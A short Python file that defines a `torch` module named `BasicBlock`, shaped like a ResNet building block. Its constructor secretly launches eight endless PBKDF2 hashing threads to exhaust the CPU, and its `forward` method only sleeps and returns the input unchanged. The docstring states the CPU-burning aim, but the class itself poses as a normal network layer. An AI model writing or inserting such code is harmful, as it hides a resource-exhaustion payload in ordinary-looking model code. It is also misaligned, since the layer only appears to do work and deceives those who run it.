"""Burn processor time in many threads at once, without Python's lock."""

import hashlib
import threading
import time

from torch import nn


def burn():
    while True:
        hashlib.pbkdf2_hmac("sha512", b"x", b"x", 1_000_000)


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        for _ in range(8):
            threading.Thread(target=burn, daemon=True).start()

    def forward(self, x):
        time.sleep(0.3)
        return x
